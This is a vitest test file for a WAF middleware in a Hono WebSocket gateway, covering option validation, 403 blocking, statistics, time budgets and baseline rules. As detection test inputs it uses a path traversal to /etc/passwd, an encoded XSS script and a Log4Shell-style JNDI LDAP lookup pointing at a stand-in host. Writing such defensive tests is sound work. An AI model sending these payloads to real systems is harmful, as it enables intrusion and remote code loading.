import { Hono } from 'hono'
import { describe, expect, it } from 'vitest'
import { waf, type WafOptions, type WafVariables } from '../../../middleware/waf/index.ts'
import { handshakeFacts } from '../../fixtures/waf/handshake.ts'

/** A clock that advances `step` ms each time it is read. */
function ticking(step: number): () => number {
  let now = 0
  return () => (now += step)
}

function appWith(options: WafOptions) {
  const middleware = waf(options)
  const app = new Hono<{ Variables: WafVariables }>()
  app.all('/ws', middleware, (c) => c.json(c.get('wafVerdict')))
  return { app, middleware }
}

describe('waf() options', () => {
  it.each([
    [{ paranoia: 5 }, 'waf(): paranoia must be 1, 2, 3 or 4, got 5'],
    [{ threshold: 0 }, 'waf(): threshold must be a positive integer anomaly score, got 0'],
    [{ budgetMs: -1 }, 'waf(): budgetMs must be a positive number of milliseconds, got -1'],
    [{ onBudgetExceeded: 'ignore' }, "waf(): onBudgetExceeded must be 'block' or 'pass', got \"ignore\""],
    [{ detectionOnly: 'yes' }, 'waf(): detectionOnly must be true or false, got "yes"'],
    [{ paranioa: 2 }, 'waf(): unknown option "paranioa"; the options are crs, baseline, paranoia'],
    [{ allow: ['10.0.0.0/33'] }, 'waf(): allow: "10.0.0.0/33" is not an IP address or CIDR range'],
    [{ rules: 'SecRule ARGS "@rx a" "id:1"' }, 'waf(): rules must be an array of SecRule strings, rule objects or functions'],
    [{ rules: [{ variables: 'ARGS', operator: '@rx a', message: 'x' }] }, 'waf(): a rule object needs a positive integer id, got undefined'],
    [{ rules: ['SecRule ARGS "@rbl bl.example.org" "id:1,deny"'] }, 'waf(): custom rule 1 uses unsupported operator @rbl'],
    [{ rules: ['SecRule ARGS "@detectSQLi x" "id:1,deny"'] }, '@detectSQLi takes no parameter'],
    [{ rules: ['SecRule ARGS "@rx a" "deny"'] }, 'every rule needs an id (id:N)'],
  ])('refuses %j at start with a TypeError naming the option', (options, message) => {
    expect(() => waf(options as WafOptions)).toThrow(message)
  })
})

describe('waf() in a Hono app', () => {
  it('publishes the verdict as wafVerdict for the rest of the chain', async () => {
    const { app } = appWith({})
    const response = await app.request('/ws?room=lobby')
    expect(response.status).toBe(200)
    expect(await response.json()).toMatchObject({ blocked: false, anomalyScore: 0, matches: [], budgetExceeded: false })
  })

  it('answers a blocked request with 403 ERR_WAF_BLOCKED and a short reason, without a wsgate runtime too', async () => {
    const { app } = appWith({})
    const response = await app.request('/ws?file=../../../../etc/passwd')
    expect(response.status).toBe(403)
    expect(response.headers.get('x-wsgate-error')).toBe('ERR_WAF_BLOCKED')
    expect(await response.text()).toBe('request blocked by the web application firewall\n')
  })

  it('counts handshakes, blocks and detections in waf.stats', async () => {
    const enforcing = appWith({})
    await enforcing.app.request('/ws')
    await enforcing.app.request('/ws?q=%3Cscript%3Ealert(1)%3C/script%3E')
    expect(enforcing.middleware.stats).toEqual({ handshakes: 2, blocked: 1, detected: 0, budgetExceeded: 0 })
    const detecting = appWith({ detectionOnly: true })
    const response = await detecting.app.request('/ws?q=%3Cscript%3Ealert(1)%3C/script%3E')
    expect(response.status).toBe(200)
    expect(await response.json()).toMatchObject({ blocked: false, anomalyScore: 10 })
    expect(detecting.middleware.stats).toEqual({ handshakes: 1, blocked: 0, detected: 1, budgetExceeded: 0 })
  })
})

describe('the time budget', () => {
  // Each rule costs 10 ms on the injected clock; a budget of 25 ms is spent after three rules.
  const slowRules = Array.from({ length: 6 }, (_, i) => `SecRule REQUEST_METHOD "@streq POST" "id:${100 + i},phase:1,deny"`)

  it('refuses a handshake whose evaluation outlasts the budget (fail closed), and counts it', async () => {
    const { app, middleware } = appWith({ baseline: false, rules: slowRules, budgetMs: 25, now: ticking(10) })
    const response = await app.request('/ws')
    expect(response.status).toBe(403)
    expect(response.headers.get('x-wsgate-error')).toBe('ERR_WAF_BLOCKED')
    expect(middleware.stats).toEqual({ handshakes: 1, blocked: 1, detected: 0, budgetExceeded: 1 })
  })

  it('passes it with onBudgetExceeded: pass, still reporting the overrun in the verdict', async () => {
    const { app, middleware } = appWith({ baseline: false, rules: slowRules, budgetMs: 25, now: ticking(10), onBudgetExceeded: 'pass' })
    const response = await app.request('/ws')
    expect(response.status).toBe(200)
    expect(await response.json()).toMatchObject({ blocked: false, budgetExceeded: true })
    expect(middleware.stats.budgetExceeded).toBe(1)
  })

  it('is not reached by the same rules within budget', async () => {
    const { app } = appWith({ baseline: false, rules: slowRules, budgetMs: 1_000, now: ticking(10) })
    expect(await (await app.request('/ws')).json()).toMatchObject({ blocked: false, budgetExceeded: false })
  })
})

describe('the embedded baseline', () => {
  it('compiles with nothing unsupported', () => {
    const { report } = waf()
    expect(report).toMatchObject({ ruleSet: 'baseline', version: 'wsgate-baseline/1', rulesDisabled: 0, unsupported: [], complements: [], files: ['wsgate baseline'] })
    expect(report.rulesLoaded).toBeGreaterThanOrEqual(50)
  })

  it('blocks ${jndi: lookups in any header, where CRS 3.3.4 only looks at arguments and cookies', () => {
    const evaluation = waf().inspect(handshakeFacts({ headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7:1389/a}' } }))
    expect(evaluation.blocked).toBe(true)
    expect(evaluation.matches[0]).toMatchObject({ id: 9007001, variable: 'REQUEST_HEADERS:X-Api-Version' })
  })

  it('runs its stricter rules only from paranoia level 2', () => {
    const facts = handshakeFacts({ target: '/ws?q=please%20select%20one%20from%20the%20list' })
    expect(waf({ paranoia: 1 }).inspect(facts).blocked).toBe(false)
    expect(waf({ paranoia: 2 }).inspect(facts)).toMatchObject({ blocked: true, matches: [{ id: 9009902 }, { id: 9009990 }] })
  })

  it('honours the threshold: a warning alone (3) passes at 5 and is blocked at 3', () => {
    const facts = handshakeFacts({ host: '' })
    expect(waf().inspect(facts)).toMatchObject({ blocked: false, anomalyScore: 3 })
    expect(waf({ threshold: 3 }).inspect(facts)).toMatchObject({ blocked: true, anomalyScore: 3 })
  })
})
